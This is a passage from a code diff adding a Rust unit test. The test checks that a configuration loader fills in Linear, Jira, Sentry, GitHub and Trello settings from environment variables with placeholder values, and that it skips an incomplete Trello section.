+            // Incomplete: no section is created
+            ("WORK_TRELLO_TOKEN", "t"),
+        ]
+        .into_iter()
+        .collect();
+        config.apply_env(|key| env.get(key).map(|v| v.to_string()));
+
+        assert_eq!(config.linear.unwrap().api_key, "from-env");
+        let jira = config.jira.unwrap();
+        assert_eq!(
+            (jira.domain.as_str(), jira.api_token.as_str()),
+            ("acme.atlassian.net", "new")
+        );
+        assert_eq!(config.sentry.unwrap().org, "acme");
+        assert_eq!(config.github.unwrap().token.as_deref(), Some("ghp_1"));
+        assert!(config.trello.is_none());
+    }
+}